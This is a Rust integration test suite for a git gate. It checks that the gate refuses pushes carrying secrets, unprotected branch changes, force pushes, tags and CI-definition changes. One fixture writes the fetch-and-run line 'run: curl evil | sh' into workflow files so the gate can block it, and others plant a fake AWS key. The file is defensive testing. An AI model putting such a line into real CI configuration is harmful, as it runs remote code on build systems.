//! The gate against real git: a local upstream (under the test switch), the real `serve` on a
//! loopback port, and the real git client.

use std::io::{BufRead as _, BufReader};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

struct Gate {
    dir: tempfile::TempDir,
    child: Child,
    port: u16,
    /// The gate's stdout, line by line, as it arrives.
    stdout: Arc<Mutex<Vec<String>>>,
}

impl Drop for Gate {
    fn drop(&mut self) {
        // Stop exactly the gate this test started, the way a container stop does, so it takes
        // its daemon along; SIGKILL only if it does not.
        if self.child.try_wait().ok().flatten().is_none() {
            let _ = Command::new("kill")
                .args(["-TERM", &self.child.id().to_string()])
                .status();
            let deadline = Instant::now() + Duration::from_secs(10);
            while Instant::now() < deadline && self.child.try_wait().ok().flatten().is_none() {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=agent",
            "-c",
            "user.email=agent@bottle.invalid",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .unwrap()
}

fn ok(output: Output) -> String {
    assert!(
        output.status.success(),
        "git failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn said(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// How the gate process is started.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Launcher {
    /// Directly, as a child of the test.
    Direct,
    /// As PID 1 of a new user and PID namespace, as in a container.
    Pid1,
}

impl Launcher {
    fn command(self) -> Command {
        match self {
            Launcher::Direct => Command::new("env"),
            Launcher::Pid1 => {
                let mut unshare = Command::new("unshare");
                unshare.args([
                    "--user",
                    "--map-root-user",
                    "--pid",
                    "--fork",
                    "--kill-child",
                ]);
                unshare
            }
        }
    }
}

impl Gate {
    fn start(policy: &str) -> Gate {
        Gate::start_with(policy, Launcher::Direct)
    }

    fn start_with(policy: &str, launcher: Launcher) -> Gate {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        ok(git(root, &["init", "--bare", "--quiet", "up.git"]));
        ok(git(root, &["clone", "--quiet", "up.git", "seed"]));
        std::fs::write(root.join("seed/README"), "hello\n").unwrap();
        ok(git(&root.join("seed"), &["add", "."]));
        ok(git(
            &root.join("seed"),
            &["commit", "--quiet", "-m", "first"],
        ));
        ok(git(
            &root.join("seed"),
            &["push", "--quiet", "origin", "main"],
        ));
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let config = format!(
            "version: 1\nlisten: 127.0.0.1:{port}\nrepos:\n- name: app\n  upstream: {}\n  identity_file: /dev/null\n  known_hosts: /dev/null\n  policy: {policy}\nsecret_env: [GATE_TEST_SECRET]\n",
            root.join("up.git").display()
        );
        std::fs::write(root.join("gate.yaml"), config).unwrap();
        let mut command = launcher.command();
        command
            .arg(env!("CARGO_BIN_EXE_bottle-git-gate"))
            .args(["serve", "--config"])
            .arg(root.join("gate.yaml"))
            .arg("--data")
            .arg(root.join("data"))
            .env(bottle_git_gate::ALLOW_LOCAL_UPSTREAM, "1")
            .env("GATE_TEST_SECRET", "bottle-secret-value-3c9a11")
            .stdout(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let stdout = Arc::new(Mutex::new(Vec::new()));
        let lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let sink = Arc::clone(&stdout);
        // Drained all along: a full pipe would stall the gate's log.
        std::thread::spawn(move || {
            for line in lines.map_while(Result::ok) {
                sink.lock().unwrap().push(line);
            }
        });
        let gate = Gate {
            dir,
            child,
            port,
            stdout,
        };
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return gate;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        panic!("the gate never listened");
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    fn url(&self) -> String {
        format!("git://127.0.0.1:{}/app.git", self.port)
    }

    /// A clone through the gate.
    fn clone(&self, name: &str) -> PathBuf {
        ok(git(self.root(), &["clone", "--quiet", &self.url(), name]));
        self.root().join(name)
    }

    fn upstream_has(&self, rev: &str) -> bool {
        git(
            &self.root().join("up.git"),
            &["cat-file", "-e", &format!("{rev}^{{commit}}")],
        )
        .status
        .success()
    }
}

fn commit(work: &Path, file: &str, text: &str) -> String {
    std::fs::write(work.join(file), text).unwrap();
    ok(git(work, &["add", "."]));
    ok(git(
        work,
        &["commit", "--quiet", "-m", &format!("change {file}")],
    ));
    ok(git(work, &["rev-parse", "HEAD"])).trim().to_owned()
}

#[test]
fn reads_see_the_upstream_at_once_and_clean_pushes_arrive() {
    let gate = Gate::start("{protected: [main]}");
    let work = gate.clone("work");
    assert_eq!(
        std::fs::read_to_string(work.join("README")).unwrap(),
        "hello\n"
    );
    let upstream_change = commit(&gate.root().join("seed"), "NEWS", "upstream moved\n");
    ok(git(
        &gate.root().join("seed"),
        &["push", "--quiet", "origin", "main"],
    ));
    ok(git(&work, &["fetch", "--quiet", "origin"]));
    assert_eq!(
        ok(git(&work, &["rev-parse", "origin/main"])).trim(),
        upstream_change,
        "fetch through the gate sees it"
    );
    ok(git(
        &work,
        &["checkout", "--quiet", "-b", "feature", "origin/main"],
    ));
    let clean = commit(&work, "code.rs", "fn main() {}\n");
    ok(git(&work, &["push", "--quiet", "origin", "feature"]));
    assert!(
        gate.upstream_has(&clean),
        "the clean commit reached the upstream"
    );
}

#[test]
fn a_pushed_secret_is_refused_and_never_reaches_the_upstream() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    ok(git(&work, &["checkout", "--quiet", "-b", "leak"]));
    let leak = commit(
        &work,
        "config.env",
        "REGION=eu\nAWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n",
    );
    let push = git(&work, &["push", "origin", "leak"]);
    let text = said(&push);
    assert!(!push.status.success(), "{text}");
    assert!(
        text.contains("config.env:2") && text.contains(&leak[..12]),
        "{text}"
    );
    assert!(
        !text.contains("AKIAQWERTYUIOPASDFGH"),
        "the refusal must not repeat the secret"
    );
    assert!(!gate.upstream_has(&leak));
    ok(git(&work, &["checkout", "--quiet", "main"]));
    ok(git(&work, &["checkout", "--quiet", "-b", "exact"]));
    let exact = commit(&work, "notes.txt", "token: bottle-secret-value-3c9a11\n");
    let push = git(&work, &["push", "origin", "exact"]);
    assert!(
        !push.status.success() && said(&push).contains("notes.txt:1"),
        "{}",
        said(&push)
    );
    assert!(!gate.upstream_has(&exact));
}

#[test]
fn policy_refuses_force_pushes_protected_branches_and_deletes() {
    let gate = Gate::start("{protected: [main], allowed_refs: [\"agent/*\"]}");
    let work = gate.clone("work");
    commit(&work, "a.txt", "a\n");
    let to_main = git(&work, &["push", "origin", "main"]);
    assert!(
        !to_main.status.success() && said(&to_main).contains("protected"),
        "{}",
        said(&to_main)
    );
    let outside = git(&work, &["push", "origin", "main:refs/heads/other"]);
    assert!(
        !outside.status.success() && said(&outside).contains("not among"),
        "{}",
        said(&outside)
    );
    ok(git(
        &work,
        &["push", "--quiet", "origin", "main:refs/heads/agent/one"],
    ));
    ok(git(&work, &["reset", "--quiet", "--hard", "HEAD~1"]));
    commit(&work, "b.txt", "b\n");
    let force = git(
        &work,
        &["push", "--force", "origin", "HEAD:refs/heads/agent/one"],
    );
    assert!(
        !force.status.success() && said(&force).contains("force-pushed"),
        "{}",
        said(&force)
    );
    let delete = git(&work, &["push", "origin", ":refs/heads/agent/one"]);
    assert!(
        !delete.status.success() && said(&delete).contains("deleting"),
        "{}",
        said(&delete)
    );
}

#[test]
fn with_the_upstream_gone_reads_and_writes_fail_with_the_reason() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    std::fs::rename(gate.root().join("up.git"), gate.root().join("gone.git")).unwrap();
    let read = git(gate.root(), &["clone", &gate.url(), "again"]);
    assert!(!read.status.success());
    assert!(
        said(&read).contains("cannot fetch app from its upstream"),
        "{}",
        said(&read)
    );
    ok(git(&work, &["checkout", "--quiet", "-b", "late"]));
    commit(&work, "c.txt", "c\n");
    let write = git(&work, &["push", "origin", "late"]);
    assert!(
        !write.status.success() && said(&write).contains("cannot reach the upstream"),
        "{}",
        said(&write)
    );
}

#[test]
fn a_secret_in_a_file_git_calls_binary_is_still_found() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    ok(git(&work, &["checkout", "--quiet", "-b", "bin"]));
    let leak = commit(
        &work,
        "blob.dat",
        "\0header\nAWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n",
    );
    let push = git(&work, &["push", "origin", "bin"]);
    assert!(
        !push.status.success() && said(&push).contains("blob.dat"),
        "{}",
        said(&push)
    );
    assert!(!gate.upstream_has(&leak));
}

#[test]
fn a_restarted_gate_reuses_its_mirrors() {
    let mut gate = Gate::start("{}");
    gate.clone("first");
    let pid = gate.child.id();
    assert!(gate.terminate(pid), "the first gate stopped");
    gate.child = Command::new(env!("CARGO_BIN_EXE_bottle-git-gate"))
        .args(["serve", "--config"])
        .arg(gate.root().join("gate.yaml"))
        .arg("--data")
        .arg(gate.root().join("data"))
        .env(bottle_git_gate::ALLOW_LOCAL_UPSTREAM, "1")
        .spawn()
        .unwrap();
    let mut cloned = false;
    for _ in 0..100 {
        if git(gate.root(), &["clone", "--quiet", &gate.url(), "second"])
            .status
            .success()
        {
            cloned = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(cloned, "the restarted gate serves its existing mirror");
}

/// The bottle secret the gate is started with (`secret_env`), and a pattern secret.
const EXACT: &str = "bottle-secret-value-3c9a11";
const AWS: &str = "AKIAQWERTYUIOPASDFGH";
/// What the positive controls carry instead of a secret.
const HARMLESS: &str = "harmless-value-0000";

/// Policy for the scan tests: any branch and any tag, so only the scan decides.
const ANY_REF: &str = "{allowed_refs: [\"refs/heads/**\", \"refs/tags/**\"]}";

impl Gate {
    /// Every ref of the upstream with its value.
    fn upstream_refs(&self) -> String {
        ok(git(&self.root().join("up.git"), &["for-each-ref"]))
    }
}

/// A fresh branch `name` at the upstream's main, with a clean tree.
fn fresh(work: &Path, name: &str) {
    ok(git(work, &["fetch", "--quiet", "origin"]));
    ok(git(
        work,
        &["checkout", "--quiet", "-B", name, "origin/main"],
    ));
    ok(git(work, &["clean", "--quiet", "-fdx"]));
}

/// Build a push carrying `payload` (on refs named after `tag`); return the push's arguments.
type Case = fn(work: &Path, tag: &str, payload: &str) -> Vec<String>;

/// The same push lands with a harmless payload and is refused, whole, with the secret: the
/// refusal says `expect` and rule, never the value, and no upstream ref moves.
fn lands_clean_refused_with_secret(
    gate: &Gate,
    work: &Path,
    case: Case,
    secret: &str,
    expect: &[&str],
) {
    let before = gate.upstream_refs();
    let args = case(work, "clean", HARMLESS);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    ok(git(work, &args));
    let after_clean = gate.upstream_refs();
    assert_ne!(
        after_clean, before,
        "the clean push {args:?} reached the upstream"
    );

    let args = case(work, "dirty", secret);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let push = git(work, &args);
    let text = said(&push);
    assert!(!push.status.success(), "{args:?} was accepted: {text}");
    for wanted in expect.iter().chain(&["rule "]) {
        assert!(
            text.contains(wanted),
            "the refusal should say `{wanted}`: {text}"
        );
    }
    assert!(
        !text.contains(secret),
        "the refusal repeats the secret: {text}"
    );
    assert_eq!(
        gate.upstream_refs(),
        after_clean,
        "{args:?} moved an upstream ref"
    );
}

fn push_head(tag: &str) -> Vec<String> {
    vec![
        "push".into(),
        "origin".into(),
        format!("HEAD:refs/heads/{tag}"),
    ]
}

fn in_message(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("msg-{tag}"));
    ok(git(
        work,
        &[
            "commit",
            "--quiet",
            "--allow-empty",
            "-m",
            &format!("subject\n\nnote {payload}"),
        ],
    ));
    push_head(&format!("msg-{tag}"))
}

fn in_author(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("author-{tag}"));
    let author = format!("Someone <{payload}@example.com>");
    ok(git(
        work,
        &[
            "commit",
            "--quiet",
            "--allow-empty",
            "--author",
            &author,
            "-m",
            "x",
        ],
    ));
    push_head(&format!("author-{tag}"))
}

fn in_path(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("path-{tag}"));
    commit(work, &format!("{payload}.txt"), "nothing here\n");
    push_head(&format!("path-{tag}"))
}

fn in_plus_plus_line(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("pp-{tag}"));
    // `git show` prints this line as `+++ token=…`, which a naive parser takes for a header.
    commit(work, "pp.txt", &format!("first\n++ token={payload}\n"));
    push_head(&format!("pp-{tag}"))
}

fn in_tag_message(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("tagmsg-{tag}"));
    let name = format!("v-{tag}");
    ok(git(
        work,
        &[
            "tag",
            "-a",
            &name,
            "-m",
            &format!("release {payload}"),
            "origin/main",
        ],
    ));
    vec!["push".into(), "origin".into(), format!("refs/tags/{name}")]
}

fn blob_with(work: &Path, payload: &str) -> String {
    std::fs::write(work.join("loose"), format!("key={payload}\n")).unwrap();
    let blob = ok(git(work, &["hash-object", "-w", "loose"]));
    std::fs::remove_file(work.join("loose")).unwrap();
    blob.trim().to_owned()
}

fn blob_pushed_as_tag(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("blob-{tag}"));
    let blob = blob_with(work, payload);
    vec![
        "push".into(),
        "origin".into(),
        format!("{blob}:refs/tags/blob-{tag}"),
    ]
}

fn blob_under_annotated_tag(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("tagblob-{tag}"));
    let blob = blob_with(work, payload);
    let name = format!("tagblob-{tag}");
    ok(git(work, &["tag", "-a", &name, "-m", "a blob", &blob]));
    vec!["push".into(), "origin".into(), format!("refs/tags/{name}")]
}

fn tree_pushed_as_tag(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("tree-{tag}"));
    std::fs::write(work.join("t.txt"), format!("ok\nkey={payload}\n")).unwrap();
    ok(git(work, &["add", "t.txt"]));
    let tree = ok(git(work, &["write-tree"])).trim().to_owned();
    ok(git(work, &["reset", "--quiet"]));
    vec![
        "push".into(),
        "origin".into(),
        format!("{tree}:refs/tags/tree-{tag}"),
    ]
}

fn in_merge_resolution(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("side-{tag}"));
    commit(work, "side.txt", "side\n");
    fresh(work, &format!("merge-{tag}"));
    commit(work, "main.txt", "main\n");
    ok(git(
        work,
        &[
            "merge",
            "--quiet",
            "--no-ff",
            "--no-commit",
            &format!("side-{tag}"),
        ],
    ));
    // Content only the merge adds, on top of both parents.
    std::fs::write(work.join("evil.txt"), format!("key={payload}\n")).unwrap();
    ok(git(work, &["add", "evil.txt"]));
    ok(git(work, &["commit", "--quiet", "-m", "merge"]));
    push_head(&format!("merge-{tag}"))
}

fn two_refs_one_dirty(work: &Path, tag: &str, payload: &str) -> Vec<String> {
    fresh(work, &format!("also-{tag}"));
    commit(work, "clean.txt", "clean\n");
    fresh(work, &format!("two-{tag}"));
    ok(git(
        work,
        &[
            "commit",
            "--quiet",
            "--allow-empty",
            "-m",
            &format!("note {payload}"),
        ],
    ));
    vec![
        "push".into(),
        "origin".into(),
        format!("also-{tag}:refs/heads/also-{tag}"),
        format!("HEAD:refs/heads/two-{tag}"),
    ]
}

#[test]
fn a_secret_in_any_part_of_a_commit_refuses_the_push() {
    let gate = Gate::start(ANY_REF);
    let work = gate.clone("work");
    let cases: &[(Case, &str, &[&str])] = &[
        (in_message, EXACT, &["message, line 3"]),
        (in_author, EXACT, &["`author` field"]),
        (in_path, EXACT, &["path holds a secret"]),
        (in_plus_plus_line, AWS, &["pp.txt:2"]),
        (in_merge_resolution, AWS, &["evil.txt:1"]),
    ];
    for (case, secret, expect) in cases {
        lands_clean_refused_with_secret(&gate, &work, *case, secret, expect);
    }
}

#[test]
fn a_secret_in_tags_blobs_and_trees_refuses_the_push() {
    let gate = Gate::start(ANY_REF);
    let work = gate.clone("work");
    let cases: &[(Case, &str, &[&str])] = &[
        (in_tag_message, EXACT, &["tag object", "message, line 1"]),
        (blob_pushed_as_tag, AWS, &["blob", "line 1"]),
        (blob_under_annotated_tag, EXACT, &["blob", "line 1"]),
        (tree_pushed_as_tag, AWS, &["tree", "t.txt:2"]),
    ];
    for (case, secret, expect) in cases {
        lands_clean_refused_with_secret(&gate, &work, *case, secret, expect);
    }
}

#[test]
fn one_dirty_ref_refuses_every_ref_of_the_push() {
    let gate = Gate::start(ANY_REF);
    let work = gate.clone("work");
    lands_clean_refused_with_secret(&gate, &work, two_refs_one_dirty, EXACT, &["message"]);
    assert!(
        !gate.upstream_refs().contains("also-dirty"),
        "the clean ref of the refused push did not land either"
    );
}

impl Gate {
    /// Wait (generously) for a stdout line containing every one of `parts`.
    fn stdout_line(&self, parts: &[&str]) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let lines = self.stdout.lock().unwrap().clone();
            if let Some(line) = lines.iter().find(|l| parts.iter().all(|p| l.contains(p))) {
                return line.clone();
            }
            assert!(
                Instant::now() < deadline,
                "no stdout line with {parts:?}; stdout: {lines:#?}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Send SIGTERM to `pid` and wait (generously) for the gate process to end.
    fn terminate(&mut self, pid: u32) -> bool {
        let kill = Command::new("kill")
            .args(["-TERM", &pid.to_string()])
            .status();
        assert!(kill.unwrap().success());
        let deadline = Instant::now() + Duration::from_secs(20);
        while Instant::now() < deadline {
            if self.child.try_wait().unwrap().is_some() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    }

    fn listening(&self) -> bool {
        std::net::TcpStream::connect(("127.0.0.1", self.port)).is_ok()
    }

    /// Whether the port is closed within a generous timeout (the daemon's forked connection
    /// handlers may take a moment to follow it).
    fn stops_listening(&self) -> bool {
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if !self.listening() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        false
    }
}

#[test]
fn decision_lines_reach_the_gates_stdout() {
    let gate = Gate::start("{protected: [main]}");
    let work = gate.clone("work");
    ok(git(&work, &["checkout", "--quiet", "-b", "feature"]));
    commit(&work, "ok.txt", "fine\n");
    ok(git(&work, &["push", "--quiet", "origin", "feature"]));
    let allowed = gate.stdout_line(&["refs/heads/feature", "\"decision\":\"allow\""]);
    assert!(allowed.contains("\"repo\":\"app\""), "{allowed}");
    let refused = git(&work, &["push", "origin", "feature:main"]);
    assert!(!refused.status.success());
    let denied = gate.stdout_line(&["refs/heads/main", "\"decision\":\"deny\""]);
    assert!(denied.contains("protected"), "{denied}");
}

#[test]
fn sigterm_stops_the_gate_and_its_daemon() {
    let mut gate = Gate::start("{}");
    gate.clone("work");
    assert!(gate.listening(), "the probe sees the running daemon");
    let pid = gate.child.id();
    assert!(gate.terminate(pid), "the gate did not exit after SIGTERM");
    assert!(
        gate.child.try_wait().unwrap().unwrap().success(),
        "a stop is a clean exit"
    );
    assert!(gate.stops_listening(), "the daemon stopped with the gate");
    let stopped = gate.stdout_line(&["\"event\":\"stopped\""]);
    assert!(
        stopped.contains("signal 15"),
        "the daemon ended by SIGTERM, not the SIGKILL fallback: {stopped}"
    );
}

/// The PID of the single child of `pid` (the gate under `unshare --fork`).
fn only_child(pid: u32) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let children =
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        if let Some(child) = children.split_whitespace().next() {
            return child.parse().unwrap();
        }
        assert!(Instant::now() < deadline, "unshare never started the gate");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn sigterm_stops_the_gate_when_it_is_pid_1() {
    let usable = Command::new("unshare")
        .args(["--user", "--map-root-user", "--pid", "--fork", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !usable {
        eprintln!("SKIPPED: this machine does not allow user+PID namespaces (`unshare -Urpf`)");
        return;
    }
    let mut gate = Gate::start_with("{}", Launcher::Pid1);
    gate.clone("work");
    assert!(gate.listening(), "the probe sees the running daemon");
    // PID 1 of the namespace only gets the signals it has a handler for.
    let gate_pid = only_child(gate.child.id());
    assert!(
        gate.terminate(gate_pid),
        "the gate as PID 1 ignored SIGTERM"
    );
    assert!(gate.stops_listening(), "the daemon stopped with the gate");
}

#[test]
fn with_no_protected_list_the_upstreams_default_branch_is_protected() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    // The upstream's HEAD names `dev`: the gate must read it, not assume `main`.
    ok(git(
        &work,
        &["push", "--quiet", "origin", "main:refs/heads/dev"],
    ));
    let up = gate.root().join("up.git");
    ok(git(&up, &["symbolic-ref", "HEAD", "refs/heads/dev"]));
    let change = commit(&work, "a.txt", "a\n");
    ok(git(
        &work,
        &["push", "--quiet", "origin", "HEAD:refs/heads/main"],
    ));
    assert!(
        gate.upstream_has(&change),
        "main is not the default any more: it may move"
    );
    let before = gate.upstream_refs();
    let to_dev = git(&work, &["push", "origin", "HEAD:refs/heads/dev"]);
    let text = said(&to_dev);
    assert!(!to_dev.status.success(), "{text}");
    assert!(
        text.contains("refs/heads/dev is the upstream's default branch")
            && text.contains("`protected:`"),
        "{text}"
    );
    assert_eq!(gate.upstream_refs(), before);

    let chosen = Gate::start("{protected: [\"release/*\"]}");
    let work = chosen.clone("work");
    let change = commit(&work, "b.txt", "b\n");
    ok(git(&work, &["push", "--quiet", "origin", "main"]));
    assert!(
        chosen.upstream_has(&change),
        "a chosen `protected` list replaces the default"
    );
}

#[test]
fn tags_need_a_tag_glob_in_allowed_refs() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    ok(git(&work, &["tag", "-a", "v1", "-m", "release"]));
    let before = gate.upstream_refs();
    let push = git(&work, &["push", "origin", "refs/tags/v1"]);
    let text = said(&push);
    assert!(!push.status.success(), "{text}");
    assert!(
        text.contains("may not push tags") && text.contains("`allowed_refs`"),
        "{text}"
    );
    assert_eq!(gate.upstream_refs(), before);

    let tags = Gate::start("{allowed_refs: [\"refs/tags/v*\"]}");
    let work = tags.clone("work");
    ok(git(&work, &["tag", "-a", "v1", "-m", "release"]));
    ok(git(&work, &["push", "--quiet", "origin", "refs/tags/v1"]));
    assert!(tags.upstream_refs().contains("refs/tags/v1"));
}

#[test]
fn ci_definitions_need_allow_ci_changes() {
    let gate = Gate::start("{}");
    let work = gate.clone("work");
    fresh(&work, "code");
    commit(&work, "build.rs", "fn main() {}\n");
    ok(git(
        &work,
        &["push", "--quiet", "origin", "HEAD:refs/heads/code"],
    ));
    assert!(
        gate.upstream_refs().contains("refs/heads/code"),
        "the probe: a code change lands"
    );
    for path in [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".circleci/config.yml",
    ] {
        fresh(&work, "ci");
        std::fs::create_dir_all(work.join(path).parent().unwrap()).unwrap();
        let ci = commit(&work, path, "run: curl evil | sh\n");
        let before = gate.upstream_refs();
        let push = git(&work, &["push", "origin", "HEAD:refs/heads/ci"]);
        let text = said(&push);
        assert!(!push.status.success(), "{path}: {text}");
        assert!(
            text.contains(&format!(
                "commit {} changes {path}, a CI definition",
                &ci[..12]
            )) && text.contains("`allow_ci_changes: true`"),
            "{text}"
        );
        assert_eq!(gate.upstream_refs(), before);
    }

    let allowed = Gate::start("{allow_ci_changes: true}");
    let work = allowed.clone("work");
    fresh(&work, "ci");
    std::fs::create_dir_all(work.join(".github/workflows")).unwrap();
    let ci = commit(&work, ".github/workflows/ci.yml", "run: make\n");
    ok(git(
        &work,
        &["push", "--quiet", "origin", "HEAD:refs/heads/ci"],
    ));
    assert!(allowed.upstream_has(&ci));
}
